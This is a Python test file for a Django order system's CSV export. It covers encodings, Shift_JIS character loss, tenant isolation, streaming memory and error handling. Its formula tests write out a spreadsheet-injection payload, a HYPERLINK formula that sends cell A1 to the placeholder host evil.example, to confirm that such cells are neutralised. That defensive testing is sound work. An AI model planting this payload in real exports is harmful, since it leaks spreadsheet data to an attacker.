"""CSV output of the search or the selection (T14): columns, both encodings, formula neutralisation, the
Shift_JIS check, filters, tenancy, streaming (flat memory, few queries) and bad options."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tracemalloc
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from orders import exports
from orders.constants import Stage
from orders.models import Label, Order, OrderLabel, OrderLine, PaymentMethod, Status
from shipping.models import DeliveryMethod
from shops.constants import MallKind
from shops.models import Shop
from tests.factories import ShopFactory, make_member, make_order

TOKYO = ZoneInfo("Asia/Tokyo")
URL = "/orders/export.csv"
DECODINGS = {"utf-8": "utf-8-sig", "cp932": "cp932"}

# The header row in the source language (the tests below ask for English, so they do not depend on the
# catalogue), and as the Japanese operator sees it.
HEADER = [
    "Order number",
    "Shop",
    "Ordered at",
    "Status",
    "Orderer name",
    "Orderer kana",
    "Orderer phone",
    "Orderer email",
    "Recipient name",
    "Recipient kana",
    "Recipient postal code",
    "Recipient address",
    "Recipient phone",
    "Payment method",
    "Delivery method",
    "Requested delivery date",
    "Ship date",
    "Item subtotal",
    "Shipping fee",
    "COD fee",
    "Discount",
    "Points used",
    "Total",
    "Remarks from the customer",
    "Work memo",
    "Labels",
]
LINE_HEADER = ["SKU", "Item name", "Options", "Unit price", "Quantity"]
HEADER_JA = [
    "受注番号",
    "店舗",
    "受注日時",
    "ステータス",
    "注文者名",
    "注文者カナ",
    "注文者電話",
    "注文者メール",
    "送付先名",
    "送付先カナ",
    "送付先郵便番号",
    "送付先住所",
    "送付先電話",
    "決済方法",
    "配送方法",
    "お届け希望日",
    "発送日",
    "商品合計",
    "送料",
    "代引手数料",
    "値引",
    "ポイント利用",
    "合計",
    "備考",
    "作業メモ",
    "ラベル",
]
LINE_HEADER_JA = ["商品コード", "商品名", "項目・選択肢", "単価", "数量"]


@pytest.fixture
def en_client(operator_client):
    """The operator, reading English column names (the source strings)."""
    operator_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return operator_client


def status_of(tenant, stage, position=1):
    return (
        Status.objects.for_tenant(tenant)
        .filter(group__stage=stage)
        .order_by("group__position", "position")[position - 1]
    )


def label(tenant, name):
    return Label.objects.for_tenant(tenant).get(name=name)


def export(client, **params) -> tuple[Any, bytes]:
    response = client.get(URL, params)
    assert response.status_code == 200, response.content
    assert isinstance(response, StreamingHttpResponse)
    return response, b"".join(response.streaming_content)


def rows_of(body: bytes, encoding: str = "utf-8") -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(DECODINGS[encoding]), newline="")))


def exported(client, **params) -> list[list[str]]:
    """The data rows (header dropped) of an export."""
    _response, body = export(client, **params)
    return rows_of(body, params.get("encoding", "utf-8"))[1:]


def numbers(rows: list[list[str]]) -> list[str]:
    return [row[0] for row in rows]


def rich_order(tenant, **overrides):
    """An order with every exported field set, two lines and two labels."""
    fields: dict[str, Any] = {
        "external_id": "R-1001",
        "ordered_at": dt.datetime(2026, 1, 15, 9, 5, tzinfo=TOKYO),
        "orderer_name": "山田 太郎",
        "orderer_kana": "ヤマダ タロウ",
        "orderer_phone": "090-1234-5678",
        "orderer_email": "taro@example.jp",
        "dest_name": "佐藤 花子",
        "dest_kana": "サトウ ハナコ",
        "dest_postal_code": "530-0001",
        "dest_prefecture": "大阪府",
        "dest_city": "大阪市北区",
        "dest_address1": "梅田1-2-3",
        "dest_address2": "梅田ビル101号室",
        "dest_phone": "06-1234-5678",
        "payment_method": PaymentMethod.objects.for_tenant(tenant).get(code="cod"),
        "delivery_method": DeliveryMethod.objects.for_tenant(tenant).get(name="宅急便"),
        "requested_delivery_date": dt.date(2026, 1, 20),
        "ship_date": dt.date(2026, 1, 18),
        "shipping_fee": 600,
        "cod_fee": 330,
        "discount": -200,
        "points_used": 100,
        "remarks": "のし希望\n赤白蝶結び",
        "lines": [
            {
                "sku": "TEA-100",
                "name": "有機緑茶 100g",
                "options": "包装:あり",
                "unit_price": 1080,
                "quantity": 2,
                "tax_rate": 8,
            },
            {"sku": "CUP-1", "name": "湯呑み", "unit_price": 2200, "quantity": 1, "tax_rate": 10},
        ],
    }
    fields.update(overrides)
    order = make_order(tenant, status=status_of(tenant, Stage.PAID), **fields)
    Order.objects.filter(pk=order.pk).update(work_memo="入金確認済")
    for name in ("ギフト", "至急"):  # 至急 comes first: labels follow their position
        OrderLabel.objects.create(tenant=tenant, order=order, label=label(tenant, name))
    order.refresh_from_db()
    return order


def bulk_orders(tenant, n: int, *, prefix: str, start: int = 0) -> None:
    """Many plain orders quickly (bulk inserts), each with a line and a label: for volume tests only."""
    shop = Shop.objects.for_tenant(tenant).exclude(mall=MallKind.MANUAL).first() or ShopFactory(tenant=tenant)
    status = status_of(tenant, Stage.NEW)
    card = PaymentMethod.objects.for_tenant(tenant).get(code="credit_card")
    gift = label(tenant, "ギフト")
    now = timezone.now()
    for first in range(start, start + n, 1000):
        orders = Order.objects.bulk_create(
            [
                Order(
                    tenant=tenant,
                    shop=shop,
                    status=status,
                    stage=Stage.NEW,
                    external_id=f"{prefix}-{i:06d}",
                    ordered_at=now - dt.timedelta(minutes=i),
                    orderer_name=f"山田 太郎{i}",
                    orderer_kana="ヤマダ タロウ",
                    orderer_phone="03-1234-5678",
                    orderer_email=f"taro{i}@example.jp",
                    dest_name="山田 太郎",
                    dest_kana="ヤマダ タロウ",
                    dest_postal_code="100-0005",
                    dest_prefecture="東京都",
                    dest_city="千代田区",
                    dest_address1="丸の内1-1-1",
                    payment_method=card,
                    item_subtotal=2160,
                    shipping_fee=600,
                    total=2760,
                    remarks="午前中希望",
                )
                for i in range(first, min(first + 1000, start + n))
            ]
        )
        OrderLine.objects.bulk_create(
            [
                OrderLine(
                    tenant=tenant, order=o, position=1, sku="SKU-001", name="有機緑茶 100g", unit_price=1080, quantity=2
                )
                for o in orders
            ]
        )
        OrderLabel.objects.bulk_create([OrderLabel(tenant=tenant, order=o, label=gift) for o in orders])


# --- the file -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
def test_export_reads_back_field_by_field(en_client, tenant, encoding):
    order = rich_order(tenant)

    response, body = export(en_client, encoding=encoding)

    assert response["Content-Type"] == exports.CONTENT_TYPES[encoding]
    assert response["Content-Disposition"].startswith('attachment; filename="orders-')
    assert body.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8")  # the BOM Excel needs, UTF-8 only
    header, row = rows_of(body, encoding)
    assert header == HEADER
    assert dict(zip(header, row, strict=True)) == {
        "Order number": "R-1001",
        "Shop": order.shop.name,
        "Ordered at": "2026/01/15 09:05",
        "Status": "入金済 / 入金済",
        "Orderer name": "山田 太郎",
        "Orderer kana": "ヤマダ タロウ",
        "Orderer phone": "090-1234-5678",
        "Orderer email": "taro@example.jp",
        "Recipient name": "佐藤 花子",
        "Recipient kana": "サトウ ハナコ",
        "Recipient postal code": "530-0001",
        "Recipient address": "大阪府大阪市北区梅田1-2-3 梅田ビル101号室",
        "Recipient phone": "06-1234-5678",
        "Payment method": "代金引換",
        "Delivery method": "宅急便",
        "Requested delivery date": "2026/01/20",
        "Ship date": "2026/01/18",
        "Item subtotal": "4360",
        "Shipping fee": "600",
        "COD fee": "330",
        "Discount": "-200",
        "Points used": "100",
        "Total": "5390",
        "Remarks from the customer": "のし希望\n赤白蝶結び",
        "Work memo": "入金確認済",
        "Labels": "至急 / ギフト",
    }
    assert (order.item_subtotal, order.total) == (4360, 5390)


def test_rows_end_in_crlf_and_a_negative_amount_stays_a_number(en_client, tenant):
    rich_order(tenant)

    _response, body = export(en_client)

    assert body.count(b"\r\n") == 2  # the header and the order's row end in CRLF
    assert body.count(b"\n") == 3  # the line break inside the (quoted) remarks is kept as it was
    assert b",-200," in body  # a number a spreadsheet can sum, not the text '-200


@pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
def test_the_operator_reads_japanese_column_names(operator_client, tenant, encoding):
    make_order(tenant)

    for lines, expected in (("", HEADER_JA), ("1", HEADER_JA + LINE_HEADER_JA)):
        response = operator_client.get(URL, {"encoding": encoding, "lines": lines})
        assert rows_of(b"".join(response.streaming_content), encoding)[0] == expected


@pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
def test_lines_option_writes_one_row_per_line(en_client, tenant, encoding):
    rich_order(tenant)
    make_order(tenant, external_id="R-1002", ordered_at=dt.datetime(2026, 1, 14, tzinfo=TOKYO))

    _response, body = export(en_client, encoding=encoding, lines="1")

    header, *rows = rows_of(body, encoding)
    assert header == HEADER + LINE_HEADER
    assert [(r[0], *r[-5:]) for r in rows] == [
        ("R-1001", "TEA-100", "有機緑茶 100g", "包装:あり", "1080", "2"),
        ("R-1001", "CUP-1", "湯呑み", "", "2200", "1"),
        ("R-1002", "SKU-001", "有機緑茶 100g", "", "1080", "2"),
    ]
    assert rows[0][:-5] == rows[1][:-5]  # the order's columns repeat on each of its lines


def test_an_order_without_lines_keeps_its_row_in_the_line_export(en_client, tenant):
    order = make_order(tenant, external_id="EMPTY")
    OrderLine.objects.filter(order=order).delete()

    rows = exported(en_client, lines="1")

    assert [(r[0], *r[-5:]) for r in rows] == [("EMPTY", "", "", "", "", "")]


# --- formulas -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
@pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
def test_a_cell_that_would_be_a_formula_is_written_as_text(en_client, tenant, start, encoding):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    make_order(tenant, external_id="F-1", orderer_name=formula, remarks=f"{start}1+2", discount=-50)

    [row] = exported(en_client, encoding=encoding)

    cells = dict(zip(HEADER, row, strict=True))
    assert cells["Orderer name"] == f"'{formula}"
    assert cells["Remarks from the customer"] == f"'{start}1+2"
    assert cells["Discount"] == "-50"
    assert cells["Recipient name"] == "山田 太郎"  # an ordinary cell is left alone


# Minus, plus, equals and at signs that are not the ASCII ones (issue 11): a spreadsheet may read them as
# one (Excel's Japanese input does; cp932 writes U+2212 as the byte that reads back as U+FF0D).
LOOKALIKES = [
    "\u2212",
    "\uff0d",
    "\u2010",
    "\u2011",
    "\u2012",
    "\u2013",
    "\u2014",
    "\u2015",
    "\ufe63",
    "\ufe58",
    "\u207b",
    "\u208b",
    "\u2796",
    "\uff0b",
    "\ufe62",
    "\u207a",
    "\u208a",
    "\u2795",
    "\uff1d",
    "\ufe66",
    "\u207c",
    "\u208c",
    "\uff20",
    "\ufe6b",
]


@pytest.mark.parametrize("start", LOOKALIKES, ids=lambda ch: f"U+{ord(ch):04X}")
@pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
def test_a_cell_starting_with_a_minus_or_plus_lookalike_is_written_as_text(en_client, tenant, start, encoding):
    make_order(tenant, external_id="L-1", orderer_name=f"{start}1+2", remarks=f"{start}SUM(A1)")

    [row] = exported(en_client, encoding=encoding)

    cells = dict(zip(HEADER, row, strict=True))
    assert cells["Orderer name"].startswith("'"), cells["Orderer name"]
    assert cells["Remarks from the customer"].startswith("'"), cells["Remarks from the customer"]
    assert cells["Orderer name"].endswith("1+2")  # the text itself is kept (as cp932 can write it)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("a=b", "a=b"),
        ("", ""),
        ("山田", "山田"),
        ("090-1234", "090-1234"),
    ],
)
def test_neutralise(text, expected):
    assert exports.neutralise(text) == expected


# --- Shift_JIS: what cannot be written is replaced, counted and shown before the download --------------------


def test_cp932_replaces_unmappable_characters_and_the_check_counts_them(en_client, tenant):
    make_order(
        tenant,
        external_id="SJ-1",
        orderer_name="𠮷田 花子",
        remarks="ありがとう😀 ①番 10時〜12時",
        dest_name="髙橋 一郎",
    )
    Order.objects.filter(external_id="SJ-1").update(work_memo="Backyard™ 対応")

    [row] = exported(en_client, encoding="cp932")
    check = en_client.get(URL, {"encoding": "cp932", "check": "1"})

    cells = dict(zip(HEADER, row, strict=True))
    assert cells["Orderer name"] == "?田 花子"  # no Shift_JIS form at all
    assert cells["Remarks from the customer"] == "ありがとう? ①番 10時～12時"  # ① is cp932's own; 〜 is its wave dash
    assert cells["Work memo"] == "BackyardTM 対応"  # the compatibility form
    assert cells["Recipient name"] == "髙橋 一郎"  # an IBM extension cp932 has
    assert check.status_code == 200
    assert check.json() == {
        "rows": 1,
        "unmappable": 3,
        "encoding": "cp932",
        "lines": False,
        "scope": "search",
        "examples": [
            {"order": "SJ-1", "char": "𠮷", "codepoint": "U+20BB7", "replacement": "?"},
            {"order": "SJ-1", "char": "😀", "codepoint": "U+1F600", "replacement": "?"},
            {"order": "SJ-1", "char": "™", "codepoint": "U+2122", "replacement": "TM"},
        ],
    }


def test_utf8_keeps_what_cp932_cannot(en_client, tenant):
    make_order(tenant, external_id="U-1", orderer_name="𠮷田 花子", remarks="😀")

    [row] = exported(en_client, encoding="utf-8")
    check = en_client.get(URL, {"encoding": "utf-8", "check": "1"}).json()

    assert (row[HEADER.index("Orderer name")], row[HEADER.index("Remarks from the customer")]) == ("𠮷田 花子", "😀")
    assert (check["rows"], check["unmappable"]) == (1, 0)


def test_the_check_counts_line_rows_and_unmappable_characters_in_lines(en_client, tenant):
    make_order(
        tenant,
        external_id="L-1",
        lines=[
            {"sku": "A", "name": "Tシャツ♥", "unit_price": 100, "quantity": 1, "tax_rate": 10},
            {"sku": "B", "name": "靴下", "unit_price": 100, "quantity": 1, "tax_rate": 10},
        ],
    )

    check = en_client.get(URL, {"encoding": "cp932", "check": "1", "lines": "1"}).json()

    assert (check["rows"], check["unmappable"]) == (2, 1)
    assert check["examples"][0]["char"] == "♥"


def test_the_options_form_shows_the_count_before_downloading(en_client, tenant):
    make_order(tenant, external_id="SJ-2", orderer_name="𠮷田")

    htmx = {"HTTP_HX_REQUEST": "true"}
    shift_jis = en_client.get(URL, {"encoding": "cp932", "check": "1"}, **htmx)
    utf8 = en_client.get(URL, {"encoding": "utf-8", "check": "1"}, **htmx)

    assert shift_jis.status_code == 200
    assert 'id="export-unmappable"' in shift_jis.content.decode()
    assert "𠮷 (U+20BB7) → ?" in shift_jis.content.decode()
    assert "SJ-2" in shift_jis.content.decode()
    assert 'id="export-unmappable"' not in utf8.content.decode()


def test_the_options_form_says_so_when_shift_jis_keeps_everything(en_client, tenant):
    make_order(tenant, external_id="OK-1", orderer_name="髙橋 ①")

    response = en_client.get(URL, {"encoding": "cp932", "check": "1"}, HTTP_HX_REQUEST="true")

    assert 'id="export-ok"' in response.content.decode()
    assert "Rows: 1." in response.content.decode()


@pytest.mark.parametrize(
    ("text", "written", "lost"),
    [
        ("山田", "山田", []),
        ("𠮷", "?", [("𠮷", "?")]),
        ("™", "TM", [("™", "TM")]),
        ("Café", "Cafe", [("é", "e")]),
        ("① ㈱ 髙 﨑 〜 − ～", "① ㈱ 髙 﨑 〜 − ～", []),  # all in cp932 (NEC / IBM extensions, wave dash)
        ("A—B", "A―B", []),  # em dash: the same JIS character, not a loss
        ("❤\ufe0f", "?", [("❤", "?")]),  # the emoji counts once, its variation selector is dropped
        ("か\u3099", "が", []),  # a decomposed kana is composed
    ],
)
def test_to_cp932(text, written, lost):
    assert exports.to_cp932(text) == (written, lost)
    written.encode("cp932")


# --- which orders ---------------------------------------------------------------------------------------------


def test_the_search_is_applied(en_client, tenant):
    paid = status_of(tenant, Stage.PAID)
    make_order(tenant, external_id="HIT", status=paid, orderer_name="鈴木 一郎", orderer_kana="スズキ イチロウ")
    make_order(tenant, external_id="OTHER-NAME", status=paid, orderer_name="佐藤 二郎", orderer_kana="サトウ ジロウ")
    make_order(tenant, external_id="OTHER-STATUS", orderer_name="鈴木 三郎", orderer_kana="スズキ サブロウ")

    assert numbers(exported(en_client, q="スズキ", status=paid.pk)) == ["HIT"]
    assert sorted(numbers(exported(en_client, q="すずき"))) == ["HIT", "OTHER-STATUS"]
    assert sorted(numbers(exported(en_client, status=paid.pk, page=2, per_page=50))) == ["HIT", "OTHER-NAME"]


def test_the_sort_of_the_list_orders_the_file(en_client, tenant):
    for number, fee in (("A", 900), ("B", 100), ("C", 500)):
        make_order(tenant, external_id=number, shipping_fee=fee)

    assert numbers(exported(en_client, sort="total")) == ["B", "C", "A"]
    assert numbers(exported(en_client, sort="-total")) == ["A", "C", "B"]
    assert numbers(exported(en_client, sort="nonsense")) == ["C", "B", "A"]  # newest first


def test_another_tenants_orders_never_appear(en_client, tenant, other_tenant):
    make_order(tenant, external_id="MINE")
    theirs = make_order(other_tenant, external_id="THEIRS")
    OrderLabel.objects.create(tenant=other_tenant, order=theirs, label=label(other_tenant, "至急"))

    assert numbers(exported(en_client)) == ["MINE"]
    assert numbers(exported(en_client, q="THEIRS")) == []
    for key, value in (
        ("status", theirs.status_id),
        ("label", label(other_tenant, "至急").pk),
        ("shop", theirs.shop_id),
    ):
        _response, body = export(en_client, **{key: value})
        assert rows_of(body) == [HEADER]
        assert b"THEIRS" not in body


def test_the_selection_scope_exports_the_selected_orders(en_client, tenant, other_tenant):
    one = make_order(tenant, external_id="ONE")
    make_order(tenant, external_id="TWO")
    three = make_order(tenant, external_id="THREE")
    theirs = make_order(other_tenant, external_id="THEIRS")
    response = en_client.post(reverse("order_selection"), {"action": "add", "ids": [one.pk, three.pk, theirs.pk]})
    assert response.status_code == 302

    assert numbers(exported(en_client, scope="selection", sort="ordered_at")) == ["ONE", "THREE"]
    assert len(exported(en_client, q="ONE")) == 1  # without the scope it is the search, as before


def test_the_selection_scope_follows_all_matching_minus_the_unticked(en_client, tenant):
    paid = status_of(tenant, Stage.PAID)
    a = make_order(tenant, external_id="A", status=paid)
    make_order(tenant, external_id="B", status=paid)
    make_order(tenant, external_id="C")
    en_client.post(reverse("order_selection"), {"action": "all_matching", "query": f"status={paid.pk}"})
    en_client.post(reverse("order_selection"), {"action": "remove", "ids": [a.pk]})

    assert numbers(exported(en_client, scope="selection", status="")) == ["B"]


# --- streaming: memory and queries do not grow with the rows --------------------------------------------


def peak_while_streaming(client, **params) -> tuple[int, int]:
    """Peak Python memory allocated while the response body is consumed (and dropped), and the body size."""
    response = client.get(URL, params)
    assert response.status_code == 200
    size = 0
    tracemalloc.start()
    try:
        for chunk in response.streaming_content:
            size += len(chunk)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, size


def test_memory_stays_flat_however_many_orders_are_exported(en_client, tenant):
    # Both exports span several chunks (the peak settles from the second chunk on: the driver reads its next
    # block while the last is let go); the larger one has 2.5 times the rows. Holding the rows or the file
    # would make the peak grow with them (measured: 10.6 MB → 26.3 MB when the rows are listed first).
    small, large = 2 * exports.CHUNK_SIZE, 5 * exports.CHUNK_SIZE
    bulk_orders(tenant, small, prefix="M")
    peaks_small = {lines: peak_while_streaming(en_client, lines=lines) for lines in ("", "1")}
    bulk_orders(tenant, large - small, prefix="M", start=small)
    peaks_large = {lines: peak_while_streaming(en_client, lines=lines) for lines in ("", "1")}

    for lines in ("", "1"):
        (peak_small, size_small), (peak_large, size_large) = peaks_small[lines], peaks_large[lines]
        print(  # noqa: T201
            f"lines={lines!r}: {small} orders peak {peak_small / 1e6:.2f} MB ({size_small / 1e6:.2f} MB of CSV), "
            f"{large} orders peak {peak_large / 1e6:.2f} MB ({size_large / 1e6:.2f} MB of CSV)"
        )
        assert size_large > 2.3 * size_small  # the file did grow with the orders
        assert peak_large < 1.25 * peak_small + 500_000  # memory did not


@pytest.mark.parametrize("lines", ["", "1"])
def test_queries_do_not_grow_with_the_rows(en_client, tenant, django_assert_max_num_queries, lines):
    bulk_orders(tenant, 300, prefix="Q")
    en_client.get(reverse("order_export_options"))  # the first request after login stores the tenant

    with django_assert_max_num_queries(10):
        _response, body = export(en_client, lines=lines)

    assert len(rows_of(body)) == 301


# --- options and errors ---------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["latin-1", "utf-16", "cp999"])
def test_an_unknown_encoding_is_a_400_with_a_reason(en_client, tenant, encoding):
    response = en_client.get(URL, {"encoding": encoding})

    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert encoding in response.content.decode()


def test_an_unknown_scope_is_a_400(en_client, tenant):
    assert en_client.get(URL, {"scope": "everything"}).status_code == 400


@pytest.mark.parametrize("alias", ["SJIS", "Shift_JIS", "windows-31j", "CP932"])
def test_shift_jis_aliases(en_client, tenant, alias):
    make_order(tenant, external_id="ALIAS", orderer_name="山田")

    response, body = export(en_client, encoding=alias)

    assert response["Content-Type"] == "text/csv; charset=Windows-31J"
    assert "山田".encode("cp932") in body


def test_the_list_opens_the_options_form_with_its_search(en_client, tenant):
    paid = status_of(tenant, Stage.PAID)
    one = make_order(tenant, external_id="ONE")
    en_client.post(reverse("order_selection"), {"action": "add", "ids": [one.pk]})

    listing = en_client.get(reverse("home"), {"status": paid.pk, "q": "山田", "sort": "-total"}).content.decode()
    form = en_client.get(
        reverse("order_export_options"),
        HTTP_HX_REQUEST="true",
        HTTP_HX_CURRENT_URL=f"http://testserver/orders/?status={paid.pk}&q=%E5%B1%B1%E7%94%B0&sort=-total&page=3",
    ).content.decode()

    assert 'id="export-link"' in listing
    assert f"{reverse('order_export_options')}?q=%E5%B1%B1%E7%94%B0&amp;status={paid.pk}&amp;sort=-total" in listing
    assert f'action="{URL}"' in form
    assert '<input type="hidden" name="q" value="山田">' in form
    assert f'<input type="hidden" name="status" value="{paid.pk}">' in form
    assert '<input type="hidden" name="sort" value="-total">' in form
    assert 'name="page"' not in form
    assert 'name="encoding" value="cp932"' in form
    assert 'name="lines" value="1"' in form
    assert "disabled" not in form  # one order is selected: the selection can be exported


def test_the_options_page_works_without_javascript(en_client, tenant):
    response = en_client.get(reverse("order_export_options"), {"q": "山田"})

    assert response.status_code == 200
    assert '<input type="hidden" name="q" value="山田">' in response.content.decode()
    assert "disabled" in response.content.decode()  # nothing selected: the selection cannot be exported


def test_export_needs_a_login_and_a_company(client, tenant):
    assert client.get(URL).status_code == 302
    user = make_member(tenant)
    user.memberships.all().delete()
    client.force_login(user)
    assert client.get(URL).status_code == 403
